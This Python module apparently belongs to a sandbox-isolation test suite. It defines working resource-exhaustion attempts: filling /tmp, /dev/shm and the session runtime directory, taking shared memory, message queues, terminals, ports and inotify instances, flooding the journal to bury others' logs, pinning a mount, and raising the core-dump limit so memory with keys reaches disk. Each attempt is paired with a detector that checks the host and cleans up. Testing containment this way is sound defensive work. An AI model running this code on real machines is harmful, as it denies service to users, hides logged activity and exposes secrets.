"""What the machine has only once."""

import ctypes
import os
import socket

from corpus.kit import LIBC, Attempt, Class, Outside, Seen, stay

CLASS = Class(
    "resources",
    "What the machine's programs share. Attempts are small: what matters is whether the machine's part becomes smaller."
    " The containers lack the controllers of memory and processes, so attempts at these would say nothing.",
)
attack = CLASS.attack
MEGABYTES = 40


def _fill(path: str) -> str:
    with open(path, "wb") as file:
        for _ in range(MEGABYTES):
            file.write(bytes(1 << 20))
    return "filled"


def _full(places: str) -> Seen:
    def look(outside: Outside, mark: str) -> bool:
        found = outside.run(
            f"find {places.format(**outside.facts)} -name fill-{mark} -size +{MEGABYTES - 1}M -print -delete"
        )
        return mark in found

    return Seen(look)


@attack("room in /tmp", "CWE-400", _full("/tmp"))
def _(at: Attempt) -> object:
    """Fills the file system of the machine's /tmp."""
    return _fill(f"/tmp/fill-{at.mark}")


@attack("room in /var/tmp", "CWE-400", _full("/var/tmp"))
def _(at: Attempt) -> object:
    """Fills the file system of the machine's /var/tmp."""
    return _fill(f"/var/tmp/fill-{at.mark}")


@attack("room in shared memory", "CWE-400", _full("/dev/shm"))
def _(at: Attempt) -> object:
    """Fills the machine's /dev/shm."""
    return _fill(f"/dev/shm/fill-{at.mark}")


@attack("room in the operator's session", "CWE-400", _full("/run/user/1000"))
def _(at: Attempt) -> object:
    """Fills the runtime directory of the operator's session."""
    return _fill(f"/run/user/1000/fill-{at.mark}")


@attack("room on its disk", "CWE-400", _full("{state}"))
def _(at: Attempt) -> object:
    """Fills the disk on which its own state is."""
    return _fill(f"{at.state}/fill-{at.mark}")


@attack(
    "segments of shared memory",
    "System V",
    Seen(lambda outside, _: outside.run("ipcs --shmems").count(" 4097 ") >= 20),
)
def _(at: Attempt) -> object:
    """Takes many of the machine's segments of shared memory, of which there are few."""
    return [LIBC.shmget(0, 4097, 0o1600) for _ in range(40)][-1]


@attack("queues of messages", "POSIX", Seen(lambda outside, _: _queues(outside)))
def _(at: Attempt) -> object:
    """Takes the machine's queues of messages, of which there are 256."""
    library = ctypes.CDLL("librt.so.1", use_errno=True)
    opened = [
        library.mq_open(f"/fill-{number}".encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
        for number in range(8)
    ]
    return opened


def _queues(outside: Outside) -> bool:
    code = "import ctypes; l = ctypes.CDLL('librt.so.1'); print(sum(l.mq_unlink(b'/fill-%d' % n) == 0 for n in range(8)))"
    return outside.run(f'python3 -c "{code}"').strip() not in ("", "0")


@attack(
    "terminals", "CWE-400", Seen(lambda outside, _: int(outside.run("cat /proc/sys/kernel/pty/nr")) >= 60)
)
def _(at: Attempt) -> object:
    """Takes many of the machine's terminals, without which nobody logs in."""
    return stay(lambda: [os.openpty() for _ in range(60)])


@attack(
    "ports without numbers",
    "CWE-400",
    Seen(lambda outside, _: int(outside.run("ss --no-header --listening --tcp --numeric | wc -l")) > 150),
)
def _(at: Attempt) -> object:
    """Takes the ports from which the machine's programs connect, by listening without a port."""

    def take() -> object:
        found = []
        for _ in range(150):
            found.append(socket.socket())
            found[-1].listen(1)
        return found

    return stay(take)


@attack(
    "watches of files",
    "inotify",
    Seen(
        lambda outside, _: "OSError"
        in outside.run(
            "runuser --user alice -- python3 -c \"import ctypes; n = ctypes.CDLL(None).inotify_init(); print('OSError' if n < 0 else n)\""
        )
    ),
)
def _(at: Attempt) -> object:
    """Takes all instances of inotify that the operator may have, and editors see no changes any more."""

    def take() -> object:
        found = []
        while (number := LIBC.inotify_init()) >= 0:
            found.append(number)
        return found

    return stay(take)


@attack(
    "lines of the journal",
    "CWE-779",
    Seen(
        lambda outside, mark: int(
            outside.run(f"journalctl --sync; journalctl --boot --no-pager --quiet | grep -c 'flood {mark}'")
        )
        > 2000
    ),
)
def _(at: Attempt) -> object:
    """Prints so much that the journal loses what others say."""
    return [os.write(1, f"flood {at.mark} {number}\n".encode()) for number in range(3000)][-1]


@attack("a disk that cannot be taken out", "CWE-400", Seen(lambda outside, _: _is_busy(outside)))
def _(at: Attempt) -> object:
    """Stays in a directory of a disk, so that it cannot be unmounted."""
    name = next(name for name in os.listdir("/mnt") if name.startswith("canary-mount"))
    return stay(lambda: os.chdir(f"/mnt/{name}"))


def _is_busy(outside: Outside) -> bool:
    place = f"/mnt/{outside.canaries['mount-name']}"
    said = outside.run(
        f"umount {place} || echo busy; mountpoint --quiet {place} || mount -t tmpfs -o size=64k tmpfs {place}"
    )
    return "busy" in said


@attack(
    "memory on the disk",
    "CWE-528",
    Seen(
        lambda outside, mark: "unlimited"
        in outside.run("cat {state}/workspace/attacks/core-limit 2>/dev/null".format(**outside.facts))
    ),
)
def _(at: Attempt) -> object:
    """Lets a crash write its memory, with all keys in it, onto the machine's disk."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
    resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
    with open(f"{at.workspace}/attacks/core-limit", "w") as file:
        file.write("unlimited" if hard == resource.RLIM_INFINITY else str(hard))
    return f"{soft} of {hard}"
